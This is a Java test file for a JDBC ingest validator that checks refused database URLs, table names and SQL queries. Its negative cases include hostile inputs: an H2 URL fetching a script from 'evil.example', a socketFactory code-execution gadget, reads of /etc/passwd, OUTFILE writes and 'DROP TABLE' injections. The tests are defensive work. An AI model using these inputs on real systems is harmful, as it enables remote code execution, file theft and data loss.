package io.jingchu.hub.ingest.internal.source;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.jingchu.hub.common.DomainException;
import io.jingchu.hub.common.ErrorCode;
import java.nio.file.Path;
import java.time.Duration;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class JdbcPullTest {

    private static final String PG = "jdbc:postgresql://db.example.org:5432/open_data";
    private static final String MYSQL = "jdbc:mysql://10.0.0.5:3306/hub";

    @TempDir
    Path dir;

    // URLs ------------------------------------------------------------------------------------------------

    @ParameterizedTest
    @ValueSource(strings = {
            "jdbc:postgresql://db.example.org:5432/open_data",
            "jdbc:postgresql://db.example.org/open_data?sslmode=require&currentSchema=public",
            "jdbc:postgresql://primary:5432,replica:5433/open_data?targetServerType=preferSecondary",
            "jdbc:mysql://10.0.0.5:3306/hub",
            "jdbc:mariadb://a:3306,b:3306/hub?sslMode=verify-full&useUnicode=true&characterEncoding=utf8"})
    void postgresqlMysqlAndMariadbUrlsAreAccepted(String url) {
        assertThat(JdbcPull.statement(table(url, "t"))).startsWith("SELECT * FROM ");
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
            "jdbc:h2:tcp://localhost/~/test",
            "jdbc:sqlite:/etc/passwd",
            "jdbc:oracle:thin:@host:1521:orcl",
            "JDBC:POSTGRESQL://host/db",
            "jdbc:postgresql:db",
            "jdbc:postgresql://host/db?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
            "jdbc:postgresql://host/db?sslfactory=x.Y&sslfactoryarg=z",
            "jdbc:postgresql://host/db?loggerFile=/tmp/x.jsp&loggerLevel=DEBUG",
            "jdbc:postgresql://host/db?authenticationPluginClassName=x.Y",
            "jdbc:postgresql://host/db?socketTimeout=0",
            "jdbc:postgresql://host/db?password=secret",
            "jdbc:postgresql://host/db?options=-c%20default_transaction_read_only=off",
            "jdbc:mysql://host/db?allowLoadLocalInfile=true",
            "jdbc:mariadb://host/db?allowLocalInfile=true",
            "jdbc:mariadb://host/db?allowMultiQueries=true",
            "jdbc:mariadb://host/db?credentialType=ENV",
            "jdbc:mariadb://address=(host=x)(port=3306)/db",
            "jdbc:mysql://user:pw@host/db"})
    void otherUrlsAndParametersAreRefused(String url) {
        assertThatThrownBy(() -> JdbcPull.statement(table(url, "t")))
                .isInstanceOfSatisfying(DomainException.class, e -> {
                    assertThat(e.code()).isEqualTo(ErrorCode.FIELD_INVALID);
                    assertThat(e.field()).isEqualTo("jdbc.url");
                });
    }

    @Test
    void anUnreachableDatabaseIsASourceFailure() {
        JdbcSource source = new JdbcSource("jdbc:postgresql://127.0.0.1:1/nothing", "reader", "s3cret", "t", null);

        assertThatThrownBy(() -> JdbcPull.toCsv(source, dir.resolve("out.csv"), Duration.ofSeconds(2), n -> { }))
                .isInstanceOfSatisfying(DomainException.class, e -> {
                    assertThat(e.code()).isEqualTo(ErrorCode.SOURCE_FAILED);
                    assertThat(e.field()).isEqualTo("jdbc.url");
                    assertThat((String) e.args()[0]).isNotBlank().doesNotContain("s3cret");
                });
        assertThat(dir.resolve("out.csv")).doesNotExist();
    }

    // tables ----------------------------------------------------------------------------------------------

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
            "jdbc:postgresql://h/db | orders          | SELECT * FROM \"orders\"",
            "jdbc:postgresql://h/db | Public.Orders   | SELECT * FROM \"public\".\"orders\"",
            "jdbc:postgresql://h/db | 开放数据.企业名录 | SELECT * FROM \"开放数据\".\"企业名录\"",
            "jdbc:mysql://h/db      | hub.Orders      | SELECT * FROM `hub`.`Orders`",
            "jdbc:mariadb://h/db    | t_2024$x        | SELECT * FROM `t_2024$x`"})
    void tableNamesAreQuotedForTheirDatabase(String url, String table, String statement) {
        assertThat(JdbcPull.statement(table(url, table))).isEqualTo(statement);
    }

    @ParameterizedTest
    @ValueSource(strings = {"t; DROP TABLE x", "a.b.c", "\"t\"", "`t`", "t--", "1t", "t x", "t)", "a..b", "."})
    void tableNamesThatAreNotPlainIdentifiersAreRefused(String table) {
        assertThatThrownBy(() -> JdbcPull.statement(table(PG, table)))
                .isInstanceOfSatisfying(DomainException.class, e -> {
                    assertThat(e.code()).isEqualTo(ErrorCode.FIELD_INVALID);
                    assertThat(e.field()).isEqualTo("jdbc.table");
                });
    }

    @Test
    void aSourceNeedsATableOrAQuery() {
        assertThatThrownBy(() -> new JdbcSource(PG, "u", "p", " ", null))
                .isInstanceOfSatisfying(DomainException.class, e -> {
                    assertThat(e.code()).isEqualTo(ErrorCode.FIELD_REQUIRED);
                    assertThat(e.field()).isEqualTo("jdbc.table");
                });
    }

    @Test
    void aSourceTakesATableOrAQueryNotBoth() {
        assertThatThrownBy(() -> new JdbcSource(PG, "u", "p", "t", "SELECT 1"))
                .isInstanceOfSatisfying(DomainException.class, e -> {
                    assertThat(e.code()).isEqualTo(ErrorCode.FIELD_INVALID);
                    assertThat(e.field()).isEqualTo("jdbc.query");
                });
    }

    @Test
    void aSourceNeverShowsItsPassword() {
        assertThat(new JdbcSource(PG, "reader", "s3cret", "t", null).toString())
                .contains("reader").doesNotContain("s3cret");
    }

    // queries ---------------------------------------------------------------------------------------------

    @ParameterizedTest
    @CsvSource(delimiter = '|', quoteCharacter = '~', value = {
            "SELECT * FROM t                                      | SELECT * FROM t",
            "  select a, b from t where name = 'x;y'              | select a, b from t where name = 'x;y'",
            "WITH x AS (SELECT 1 AS a) SELECT a FROM x            | WITH x AS (SELECT 1 AS a) SELECT a FROM x",
            "SELECT 1;                                            | SELECT 1",
            "SELECT 1; -- that is all                             | SELECT 1",
            "SELECT 1 ; /* done */                                | SELECT 1",
            "SELECT $$a;b$$                                       | SELECT $$a;b$$",
            "SELECT $tag$ it's; $tag$ AS t                        | SELECT $tag$ it's; $tag$ AS t",
            "(SELECT 1) UNION (SELECT 2)                          | (SELECT 1) UNION (SELECT 2)",
            "SELECT \"odd;name\" FROM t                           | SELECT \"odd;name\" FROM t",
            "SELECT 'it''s; fine'                                 | SELECT 'it''s; fine'",
            "SELECT update_time, deleted, inserted_by FROM t      | SELECT update_time, deleted, inserted_by FROM t",
            "SELECT /* a; b */ 1                                  | SELECT /* a; b */ 1",
            "SELECT /* outer /* inner; */ still; */ 1             | SELECT /* outer /* inner; */ still; */ 1",
            "SELECT a -- the; rest\\nFROM t                      | SELECT a -- the; rest\\nFROM t",
            "SELECT E'\\'; still a string; ' AS s                 | SELECT E'\\'; still a string; ' AS s"})
    void singleSelectsAreAcceptedOnPostgresql(String query, String statement) {
        assertThat(JdbcPull.statement(query(PG, query.replace("\\n", "\n")))).isEqualTo(statement.replace("\\n", "\n"));
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', quoteCharacter = '~', value = {
            "UPDATE t SET a = 1                                              | UPDATE",
            "DELETE FROM t                                                   | DELETE",
            "delete from t                                                   | DELETE",
            "INSERT INTO t VALUES (1)                                        | INSERT",
            "SELECT 1; DROP TABLE x                                          | ;",
            "SELECT 1; SELECT 2                                              | ;",
            "SELECT 1;;                                                      | ;",
            "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d           | DELETE",
            "SELECT * INTO backup FROM t                                     | INTO",
            "SELECT * INTO\"backup\" FROM t                                  | INTO",
            "SELECT * FROM t FOR UPDATE                                      | UPDATE",
            "SELECT $$'$$; DROP TABLE t; SELECT $$'$$                        | ;",
            "SELECT 'a\\'; DROP TABLE t; --'                                 | ;",
            "SELECT 1 /* unterminated                                        | /*",
            "SELECT 'unterminated                                            | '",
            "SELECT $x$ unterminated                                         | $x$",
            "TRUNCATE t                                                      | TRUNCATE",
            "CREATE TABLE t AS SELECT 1                                      | CREATE",
            "EXPLAIN ANALYZE DELETE FROM t                                   | EXPLAIN",
            "SET default_transaction_read_only = off                         | SET",
            "COMMIT                                                          | COMMIT",
            "CALL p()                                                        | CALL",
            "VALUES (1)                                                      | VALUES",
            "1; SELECT 1                                                     | ;",
            "-- only a comment                                               | SELECT",
            ";                                                               | SELECT",
            "* SELECT 1                                                      | SELECT"})
    void everythingElseIsRefusedOnPostgresql(String query, String refused) {
        assertRefused(PG, query, refused);
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', quoteCharacter = '~', value = {
            "SELECT `odd;name` FROM t                             | SELECT `odd;name` FROM t",
            "SELECT 1 # a comment; here                           | SELECT 1 # a comment; here",
            "SELECT 1 /*+ hint; */                                | SELECT 1 /*+ hint; */",
            "SELECT 3--1                                          | SELECT 3--1"})
    void singleSelectsAreAcceptedOnMysql(String query, String statement) {
        assertThat(JdbcPull.statement(query(MYSQL, query))).isEqualTo(statement);
    }

    @Test
    void quotesThatHideNothingOnTheirOwnDatabaseAreAccepted() {
        // PostgreSQL: a quoted identifier may hold a semicolon; MySQL: $$ is no quote, so the rest is one string
        assertThat(JdbcPull.statement(query(PG, "SELECT \"a\"\"; b\" FROM t"))).isEqualTo("SELECT \"a\"\"; b\" FROM t");
        assertThat(JdbcPull.statement(query(MYSQL, "SELECT $$'$$; DROP TABLE t; -- '"))).isEqualTo("SELECT $$'$$; DROP TABLE t; -- '");
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', quoteCharacter = '~', value = {
            "SELECT 'a\\''; DROP TABLE t; -- '                    | ;",
            "SELECT 'a\\';b' AS s                                 | '",
            "SELECT \"a\\\"\"; DROP TABLE t; -- \"                | ;",
            "SELECT 1 # ;\\n; DROP TABLE t                       | ;",
            "SELECT 1 /*!50000 ; DROP TABLE t */                  | /*!",
            "SELECT 1 /*M! ; DROP TABLE t */                      | /*M!",
            "SELECT * FROM t INTO OUTFILE '/tmp/x'                | INTO",
            "SELECT 3--1; DROP TABLE t                            | ;",
            "REPLACE INTO t VALUES (1)                            | REPLACE",
            "HANDLER t OPEN                                       | HANDLER",
            "LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t    | LOAD",
            "SHOW TABLES                                          | SHOW",
            "DO SLEEP(10)                                         | DO"})
    void everythingElseIsRefusedOnMysql(String query, String refused) {
        assertRefused(MYSQL, query.replace("\\n", "\n"), refused);
    }

    private static void assertRefused(String url, String query, String refused) {
        assertThatThrownBy(() -> JdbcPull.statement(query(url, query)))
                .isInstanceOfSatisfying(DomainException.class, e -> {
                    assertThat(e.code()).isEqualTo(ErrorCode.SQL_NOT_ALLOWED);
                    assertThat(e.field()).isEqualTo("jdbc.query");
                    assertThat(e.args()).containsExactly(refused);
                });
    }

    private static JdbcSource table(String url, String table) {
        return new JdbcSource(url, "reader", "secret", table, null);
    }

    private static JdbcSource query(String url, String query) {
        return new JdbcSource(url, "reader", "secret", null, query);
    }
}
